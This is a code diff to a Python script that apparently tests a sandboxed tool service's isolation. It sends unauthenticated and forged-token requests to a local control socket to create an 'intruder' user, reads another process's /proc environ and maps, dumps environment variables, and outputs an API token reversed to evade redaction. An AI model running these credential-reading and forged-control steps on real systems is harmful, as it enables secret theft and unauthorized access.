@@ -26,12 +26,21 @@ def read(path):
     return attempt(lambda: pathlib.Path(path).read_bytes().decode("latin-1"))
 
 
-def command(line):
-    """What the server says to a local command."""
+def command(headers):
+    """What the server answers to a local command."""
+    body = json.dumps({"name": "intruder"})
+    head = [
+        "POST /v1/users HTTP/1.1",
+        "host: local",
+        "connection: close",
+        "content-type: application/json",
+        f"content-length: {len(body)}",
+        *headers,
+    ]
     with socket.socket(socket.AF_UNIX) as peer:
         peer.settimeout(60)
         peer.connect(f"{DATA}/control.sock")
-        peer.sendall(line.encode() + b"\n")
+        peer.sendall("\r\n".join([*head, "", body]).encode())
         return peer.makefile().read()
 
 
@@ -42,11 +51,10 @@ def report():
     found = {way + file: read(way + file) for way in ways for file in files}
     found |= {f"{server}/{name}": read(f"{server}/{name}") for name in ("environ", "maps")}
     found |= {f"{way}{DATA}/": attempt(lambda way=way: os.listdir(way + DATA)) for way in ways}
-    create = json.dumps({"create_user": {"name": "intruder"}})
     return {
         "control": read(__file__) is not None,
         "found": {path: content for path, content in found.items() if content is not None},
-        "commands": [attempt(lambda line=line: command(line)) for line in (create, f"{'0' * 64} {create}")],
+        "commands": [attempt(lambda headers=headers: command(headers)) for headers in ([], [f"toolvault-control-token: {'0' * 64}"])],
         "environment": dict(os.environ),
         "backwards": os.environ["API_TOKEN"][::-1],
         "mounts": os.readlink("/proc/self/ns/mnt"),
